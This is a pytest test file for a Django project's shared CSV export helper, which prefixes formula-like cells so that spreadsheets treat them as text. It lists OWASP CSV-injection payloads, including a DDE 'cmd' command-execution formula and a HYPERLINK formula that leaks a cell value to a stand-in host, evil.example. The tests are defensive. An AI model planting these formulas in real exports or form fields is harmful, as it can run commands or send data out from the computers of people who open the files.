"""Issue 13.8: one CSV writer for every export, which neutralises spreadsheet formulas (OWASP CSV injection)."""

import csv
import io
import re
from pathlib import Path

import pytest

from swsdigital.core.csvexport import csv_cell, csv_text

ROOT = Path(__file__).resolve().parents[2]

# OWASP "CSV Injection" payloads and the whitespace-led variants spreadsheets strip first.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Hier klicken")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=10+20+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_become_text(payload):
    assert csv_cell(payload) == "'" + payload
    [row] = list(csv.reader(io.StringIO(csv_text(["h"], [[payload]]).split("\r\n", 1)[1]), delimiter=";"))
    assert row == ["'" + payload]


@pytest.mark.parametrize("value", ["", "Anna", "Plauen", "ä=b", "1-2", 12, -5, 3.5, None])
def test_harmless_cells_stay_as_they_are(value):
    """The old check `v[:1] in "=+-@"` was true for "" and wrote every empty cell as a lone apostrophe."""
    assert csv_cell(value) == ("" if value is None else value)


def test_every_export_goes_through_the_one_writer():
    offenders = []
    for path in ROOT.glob("*/**/*.py"):
        if any(part.startswith((".venv", "tests", "bench")) for part in path.relative_to(ROOT).parts):
            continue
        if path.name == "csvexport.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_a_name_planted_through_the_public_sign_up_is_text_in_the_subscriber_export(client, db):
    from newsletter.models import Subscriber
    from newsletter.services import subscribers_export_csv
    from tests.conftest import protected

    planted = '=HYPERLINK("https://evil.example","Newsletter")'
    data = protected({"email": "x@example.org", "name": planted, "language": "de", "consent": "on"})
    client.post("/newsletter/", data)
    assert Subscriber.objects.get(email="x@example.org").name == planted
    rows = list(csv.reader(io.StringIO(subscribers_export_csv())))
    assert rows[1][1] == "'" + planted


def test_participant_and_member_exports_neutralise_and_keep_empty_cells(admin_client, db):
    from datetime import timedelta

    from django.utils import timezone

    from events.models import Event
    from events.services import registration_create

    start = timezone.now() + timedelta(days=3)
    event = Event.objects.create(
        title="Digital-Gipfel", slug="digital-gipfel", start=start, end=start + timedelta(hours=2), status="published"
    )
    registration_create(event=event, name="-2+3", email="p@example.org", organisation="")
    response = admin_client.get(f"/admin/events/event/{event.pk}/export/")
    text = response.content.decode("utf-8-sig")
    [_header, row] = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert row[0] == "'-2+3"
    assert row[2] == ""  # an empty organisation stays empty
